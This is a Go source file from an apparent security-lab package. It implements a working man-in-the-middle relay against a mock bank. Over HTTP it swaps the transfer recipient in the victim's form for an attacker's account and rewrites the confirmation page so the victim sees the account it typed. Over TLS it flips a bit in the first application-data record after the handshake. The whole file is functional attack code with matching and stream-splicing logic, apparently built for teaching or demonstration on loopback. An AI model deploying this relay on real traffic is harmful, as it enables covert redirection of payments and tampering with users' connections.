package labs

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"sync"
	"time"
)

// Relay is an attacker on the path at the TCP level: the victim connects
// to it as if it were the bank, and it forwards every byte to the bank and
// back, changing some on the way. It holds no key and no certificate: it
// is what a router, a Wi-Fi access point or a compromised switch can do to
// traffic that passes through it.
//
// Over HTTP it rewrites the recipient of a transfer in the form the victim
// sends, and the recipient back in the page the bank answers, so the
// victim reads what it typed. Over TLS it cannot read anything: it follows
// the record boundaries of the victim's stream and, once armed, flips one
// bit of the next application-data record of each connection.
type Relay struct {
	Addr string

	opts RelayOptions
	ln   net.Listener
	wg   sync.WaitGroup

	mu     sync.Mutex
	armed  bool
	conns  int
	events []RelayEvent
	open   map[net.Conn]bool
	closed bool
}

// RelayOptions configure StartRelay. Exactly one of Rewrite and FlipTLS.
type RelayOptions struct {
	// Target is the bank's address, host:port.
	Target string
	// Listen wraps the listener (the lab's tap); nil uses it as is.
	Listen func(net.Listener) net.Listener
	// Rewrite swaps the value of a form field in the cleartext stream.
	Rewrite *FieldRewrite
	// FlipTLS has the relay parse TLS records from the victim and, after
	// Arm, flip a bit of one application-data record per connection.
	FlipTLS bool
	// Log is a file the relay appends its own account of what it changed
	// to (one JSON line per event); empty keeps it in memory only.
	Log string
}

// FieldRewrite is the HTTP attack: in the victim's stream, Field=<value>
// where value is len(Value) bytes of digits and dashes (an account number)
// becomes Field=Value; in the bank's answer on the same connection, Value
// becomes the value it replaced. The lengths are equal, so every
// Content-Length stays true and neither end sees a framing error.
type FieldRewrite struct {
	Field string // "to"
	Value string // the attacker's account, "6666-6666-6666"
}

// RelayEvent is one thing the relay did to a connection.
type RelayEvent struct {
	Conn int `json:"conn"` // 1 for the first connection the relay accepted
	// Target is where the relay forwards to (the bank's port), and
	// Upstream the relay's end of that connection: the client address the
	// bank (and the capture) sees.
	Target   string `json:"target"`
	Upstream string `json:"upstream"`
	// What is "connect" (a connection relayed), "rewrite", "rewrite-back"
	// or "flip".
	What string `json:"what"`
	// Offset is where in the direction's byte stream the change is.
	Offset int64  `json:"offset,omitempty"`
	From   string `json:"from,omitempty"`
	To     string `json:"to,omitempty"`
	// Record is the TLS record's index in the victim's stream (0 is the
	// first) and RecordLen its payload length, for a flip.
	Record    int `json:"record,omitempty"`
	RecordLen int `json:"record_len,omitempty"`
}

// ReadRelayLog reads the events a relay wrote to RelayOptions.Log; a
// missing file is no event.
func ReadRelayLog(path string) ([]RelayEvent, error) {
	data, err := os.ReadFile(path)
	if errors.Is(err, os.ErrNotExist) {
		return nil, nil
	}
	if err != nil {
		return nil, err
	}
	var out []RelayEvent
	dec := json.NewDecoder(bytes.NewReader(data))
	for dec.More() {
		var e RelayEvent
		if err := dec.Decode(&e); err != nil {
			return out, fmt.Errorf("labs: %s: %w", path, err)
		}
		out = append(out, e)
	}
	return out, nil
}

// StartRelay listens on a loopback port and relays to opts.Target.
func StartRelay(opts RelayOptions) (*Relay, error) {
	if (opts.Rewrite == nil) == !opts.FlipTLS {
		return nil, errors.New("labs: relay: choose one attack, Rewrite or FlipTLS")
	}
	if opts.Rewrite != nil && (opts.Rewrite.Field == "" || opts.Rewrite.Value == "") {
		return nil, errors.New("labs: relay: a rewrite needs a field and a value")
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		return nil, fmt.Errorf("labs: relay: %w", err)
	}
	r := &Relay{Addr: ln.Addr().String(), opts: opts, ln: ln, open: map[net.Conn]bool{}}
	if opts.Listen != nil {
		r.ln = opts.Listen(ln)
	}
	r.wg.Add(1)
	go r.serve()
	return r, nil
}

// Arm makes a TLS relay strike: each connection, the open ones and those
// to come, gets one bit flipped in its next application-data record from
// the victim. The lab arms it when the victim has the transfer form in
// front of it; a real attacker guesses the moment from sizes and timing.
func (r *Relay) Arm() {
	r.mu.Lock()
	r.armed = true
	r.mu.Unlock()
}

// Events is what the relay changed, in order.
func (r *Relay) Events() []RelayEvent {
	r.mu.Lock()
	defer r.mu.Unlock()
	return append([]RelayEvent(nil), r.events...)
}

// Close stops the relay and every connection through it.
func (r *Relay) Close() {
	r.mu.Lock()
	r.closed = true
	for c := range r.open {
		c.Close()
	}
	r.mu.Unlock()
	r.ln.Close()
	r.wg.Wait()
}

func (r *Relay) event(e RelayEvent) {
	r.mu.Lock()
	defer r.mu.Unlock()
	r.events = append(r.events, e)
	if r.opts.Log == "" {
		return
	}
	if f, err := os.OpenFile(r.opts.Log, os.O_WRONLY|os.O_CREATE|os.O_APPEND, 0o644); err == nil {
		line, _ := json.Marshal(e)
		f.Write(append(line, '\n'))
		f.Close()
	}
}

// track registers a connection to close with the relay; false when the
// relay is closing.
func (r *Relay) track(cs ...net.Conn) bool {
	r.mu.Lock()
	defer r.mu.Unlock()
	if r.closed {
		return false
	}
	for _, c := range cs {
		r.open[c] = true
	}
	return true
}

func (r *Relay) untrack(cs ...net.Conn) {
	r.mu.Lock()
	defer r.mu.Unlock()
	for _, c := range cs {
		delete(r.open, c)
	}
}

func (r *Relay) serve() {
	defer r.wg.Done()
	for {
		c, err := r.ln.Accept()
		if err != nil {
			return
		}
		r.mu.Lock()
		r.conns++
		n := r.conns
		r.mu.Unlock()
		r.wg.Add(1)
		go func() {
			defer r.wg.Done()
			r.relay(n, c)
		}()
	}
}

// relay copies one connection both ways. Each direction half-closes the
// other end when it ends, so a FIN crosses the relay as it would a router.
func (r *Relay) relay(n int, client net.Conn) {
	id := relayConn{n: n}
	defer client.Close()
	server, err := net.DialTimeout("tcp", r.opts.Target, 5*time.Second)
	if err != nil {
		return
	}
	defer server.Close()
	id.upstream = server.LocalAddr().String()
	if !r.track(client, server) {
		return
	}
	defer r.untrack(client, server)
	r.event(RelayEvent{Conn: n, Target: r.opts.Target, Upstream: id.upstream, What: "connect"})
	// What the HTTP rewrite replaced on this connection, for the way back.
	replaced := make(chan string, 16)
	var done sync.WaitGroup
	done.Add(2)
	go func() {
		defer done.Done()
		switch {
		case r.opts.FlipTLS:
			r.flipRecords(id, client, server)
		default:
			r.rewriteUp(id, client, server, replaced)
		}
		close(replaced)
		halfClose(server)
	}()
	go func() {
		defer done.Done()
		if r.opts.Rewrite != nil {
			r.rewriteDown(id, server, client, replaced)
		} else {
			io.Copy(client, server)
		}
		halfClose(client)
	}()
	done.Wait()
}

// relayConn names a relayed connection in events.
type relayConn struct {
	n        int
	upstream string
}

func halfClose(c net.Conn) {
	if cw, ok := c.(interface{ CloseWrite() error }); ok {
		cw.CloseWrite()
		return
	}
	c.Close()
}

// --- the HTTP attack -----------------------------------------------------

// holdBack is how long a rewrite keeps bytes that may be the start of a
// match, waiting for the rest: longer than the gap between two writes of
// one request on loopback, far shorter than any client's patience.
const holdBack = 100 * time.Millisecond

// accountByte is a byte of an account number.
func accountByte(c byte) bool { return c >= '0' && c <= '9' || c == '-' }

// fieldPattern matches "\nto=1234-5678-9012" or "&to=…": the field at the
// start of a form body (after the blank line that ends the headers) or
// after another field, then len(value) bytes of an account number.
func fieldPattern(field string, n int) []func(byte) bool {
	p := []func(byte) bool{func(c byte) bool { return c == '\n' || c == '&' }}
	for _, c := range []byte(field + "=") {
		p = append(p, func(b byte) bool { return b == c })
	}
	for range n {
		p = append(p, accountByte)
	}
	return p
}

// literalPattern matches s.
func literalPattern(s string) []func(byte) bool {
	var p []func(byte) bool
	for _, c := range []byte(s) {
		p = append(p, func(b byte) bool { return b == c })
	}
	return p
}

// scan finds the matches of pattern p in buf, whose first sent bytes went
// on already (kept as context, so a match may start in them): it calls hit
// with the offset of each match whose changed part (from skip on) is not
// sent yet, and returns how much of buf may go on now. Only the changed
// part of a match that may still be completing waits: the bytes before it
// (the delimiter, "to=") go on at once, so a stream that pauses after a
// header's blank line is not held.
func scan(buf []byte, sent int, p []func(byte) bool, skip int, hit func(at int)) (ready int) {
	for i := 0; i < len(buf); i++ {
		k := 0
		for k < len(p) && i+k < len(buf) && p[k](buf[i+k]) {
			k++
		}
		switch {
		case k == len(p):
			if i+skip >= sent {
				hit(i)
			}
			i += len(p) - 1
		case i+k == len(buf):
			// A prefix of a match runs to the end: its changed part waits
			// for the next read.
			return min(max(i+skip, sent), len(buf))
		}
	}
	return len(buf)
}

// pump reads src and writes dst, passing what it reads to edit with the
// last bytes already sent before it (sent of them) as context. edit may
// change unsent bytes in place and returns how far buf may go on now; the
// rest waits for the next read, or holdBack, whichever comes first.
func pump(src, dst net.Conn, keep int, edit func(buf []byte, sent int, base int64) int) {
	buf := make([]byte, 0, 64<<10)
	sent := 0      // how many of buf's first bytes went on already
	var base int64 // the stream offset of buf[0]
	flush := func(upto int) bool {
		if upto > sent {
			if _, err := dst.Write(buf[sent:upto]); err != nil {
				return false
			}
			sent = upto
		}
		// Keep keep bytes of context, and what waits.
		if drop := sent - keep; drop > 0 {
			buf = append(buf[:0], buf[drop:]...)
			sent -= drop
			base += int64(drop)
		}
		return true
	}
	for {
		if len(buf) > sent {
			src.SetReadDeadline(time.Now().Add(holdBack))
		} else {
			src.SetReadDeadline(time.Time{})
		}
		if cap(buf)-len(buf) < 4096 {
			buf = append(buf, make([]byte, 4096)...)[:len(buf)]
		}
		n, err := src.Read(buf[len(buf):cap(buf)])
		buf = buf[:len(buf)+n]
		ready := len(buf)
		if n > 0 {
			if r := edit(buf, sent, base); err == nil {
				ready = r
			}
		}
		if !flush(ready) {
			return
		}
		if err != nil {
			var ne net.Error
			if errors.As(err, &ne) && ne.Timeout() {
				// Nothing more came: what waited is no match.
				if !flush(len(buf)) {
					return
				}
				continue
			}
			return
		}
	}
}

// rewriteUp is the victim → bank direction of the HTTP attack.
func (r *Relay) rewriteUp(id relayConn, client, server net.Conn, replaced chan<- string) {
	rw := r.opts.Rewrite
	p := fieldPattern(rw.Field, len(rw.Value))
	skip := 1 + len(rw.Field) + 1 // the delimiter, "to="
	pump(client, server, len(p), func(buf []byte, sent int, base int64) int {
		return scan(buf, sent, p, skip, func(at int) {
			v := buf[at+skip : at+len(p)]
			if string(v) == rw.Value {
				return
			}
			orig := string(v)
			copy(v, rw.Value)
			r.event(RelayEvent{Conn: id.n, Target: r.opts.Target, Upstream: id.upstream, What: "rewrite", Offset: base + int64(at+skip), From: rw.Field + "=" + orig, To: rw.Field + "=" + rw.Value})
			select {
			case replaced <- orig:
			default:
			}
		})
	})
}

// rewriteDown is the bank → victim direction: the confirmation names the
// attacker's account; the victim is shown the one it typed.
func (r *Relay) rewriteDown(id relayConn, server, client net.Conn, replaced <-chan string) {
	rw := r.opts.Rewrite
	p := literalPattern(rw.Value)
	var orig string
	pump(server, client, len(p), func(buf []byte, sent int, base int64) int {
		for more := true; more; {
			select {
			case o, ok := <-replaced:
				if !ok {
					replaced, more = nil, false
					break
				}
				orig = o
			default:
				more = false
			}
		}
		if orig == "" {
			return len(buf)
		}
		return scan(buf, sent, p, 0, func(at int) {
			copy(buf[at:], orig)
			r.event(RelayEvent{Conn: id.n, Target: r.opts.Target, Upstream: id.upstream, What: "rewrite-back", Offset: base + int64(at), From: rw.Value, To: orig})
		})
	})
}

// --- the TLS attack ------------------------------------------------------

// The TLS record content types (RFC 8446 section 5.1).
const (
	recordChangeCipherSpec = 20
	recordHandshake        = 22
	recordApplicationData  = 23
)

// flipRecords forwards the victim's stream record by record. The handshake
// passes untouched; once armed, the first application-data record after it
// gets one bit flipped in the middle of its ciphertext, the header left as
// it was so the bank reads a well-framed record that fails its check.
//
// Where the handshake ends is read from the record types alone: in TLS
// 1.2 the client's ChangeCipherSpec is followed by its encrypted Finished
// as a handshake record; in TLS 1.3 every encrypted record is typed
// application_data, so the client's first one is its Finished (without
// client certificates), and the application data starts after it.
func (r *Relay) flipRecords(id relayConn, client, server net.Conn) {
	var (
		hdr      [5]byte
		index    int
		offset   int64
		ccs      bool // the client's ChangeCipherSpec went by
		finished bool // the client's Finished went by: what follows is data
		flipped  bool
	)
	body := make([]byte, 0, 1<<14+2048)
	for {
		if n, err := io.ReadFull(client, hdr[:]); err != nil {
			server.Write(hdr[:n]) // a torn header goes on as it came
			return
		}
		typ, length := hdr[0], int(binary.BigEndian.Uint16(hdr[3:]))
		if typ < recordChangeCipherSpec || typ > 24 || hdr[1] != 3 || length > 1<<14+2048 {
			// Not TLS (or no longer framed as it): relay the rest as is.
			if _, err := server.Write(hdr[:]); err == nil {
				io.Copy(server, client)
			}
			return
		}
		body = body[:length]
		if n, err := io.ReadFull(client, body); err != nil {
			server.Write(append(hdr[:], body[:n]...))
			return
		}
		switch {
		case typ == recordChangeCipherSpec:
			ccs = true
		case typ == recordHandshake && ccs:
			finished = true // TLS 1.2: the encrypted Finished
		case typ == recordApplicationData && !finished:
			finished = true // TLS 1.3: the Finished, encrypted
		case typ == recordApplicationData && !flipped && length > 0:
			r.mu.Lock()
			armed := r.armed
			r.mu.Unlock()
			if armed {
				at := length / 2
				body[at] ^= 0x01
				flipped = true
				r.event(RelayEvent{Conn: id.n, Target: r.opts.Target, Upstream: id.upstream, What: "flip", Offset: offset + 5 + int64(at), Record: index, RecordLen: length,
					From: fmt.Sprintf("%02x", body[at]^0x01), To: fmt.Sprintf("%02x", body[at])})
			}
		}
		// One write per record: the bank's side sees the framing the
		// victim sent.
		rec := append(hdr[:], body...)
		if _, err := server.Write(rec); err != nil {
			return
		}
		offset += int64(len(rec))
		index++
	}
}
